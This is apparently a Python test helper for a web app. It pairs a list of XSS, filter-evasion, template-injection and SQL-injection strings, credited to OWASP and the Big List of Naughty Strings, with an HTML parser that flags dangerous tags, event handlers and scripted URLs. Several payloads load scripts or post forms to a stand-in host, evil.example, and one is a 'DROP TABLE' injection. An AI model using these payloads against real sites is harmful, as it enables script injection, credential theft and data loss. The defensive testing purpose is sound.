"""What somebody types who tries to make a page do something: from OWASP's filter evasion sheet and
the Big List of Naughty Strings. And how a page is looked through for what must not be in it."""

from __future__ import annotations

from html.parser import HTMLParser

TRIES = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    '<a href="javascript:alert(1)">here</a>',
    '<a href="https://evil.example" onmouseover=alert(1)>here</a>',
    "javascript:alert(1)",
    "jav&#x09;ascript:alert(1);",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://x.example/"onmouseover=alert(1)//',
    "https://x.example/'onmouseover='alert(1)",
    "https://x.example/<script>alert(1)</script>",
    "https://x.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "http://javascript:alert(1)@x.example",
    "https://bank.example@evil.example/",
    "https://exa\u202emple.gro",
    '" autofocus onfocus=alert(1) x="',
    "' onclick='alert(1)",
    '"><script>alert(1)</script>',
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</li></ol><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<form action=//evil.example><button>Send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<div hx-get=/sign-out hx-trigger=load>",
    "<div hx-on:click=alert(1) data-topic=c1/tool/1>",
    "<p data-live-pause id=composer>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{ 7*7 }}{% raw %}",
    "${7*7}#{7*7}",
    "'; DROP TABLE message; --",
    "\u202eabc\u202c",
)
NEVER = {
    *("script", "iframe", "object", "embed", "base", "meta", "link", "style", "math"),
    *("video", "source", "body", "applet", "frame"),
}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.links: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = [name for name, _ in attrs]
        if tag in NEVER or len(set(names)) != len(names):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc", "formaction"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action") and not (value or "").startswith(
                ("/", "#", "?", "https://", "http://", "HTTP://")
            ):
                self.found.append(f"{tag} {name}={value}")
        if tag == "a":
            self.links.append(dict(attrs))


def harm_in(html: str) -> list[str]:
    """What a fragment of ours must not hold, whoever typed what."""
    reader = _Reader()
    reader.feed(html)
    return reader.found


def links_in(html: str) -> list[dict[str, str | None]]:
    """The attributes of each link to somewhere else."""
    reader = _Reader()
    reader.feed(html)
    return [one for one in reader.links if (one.get("href") or "").lower().startswith("http")]
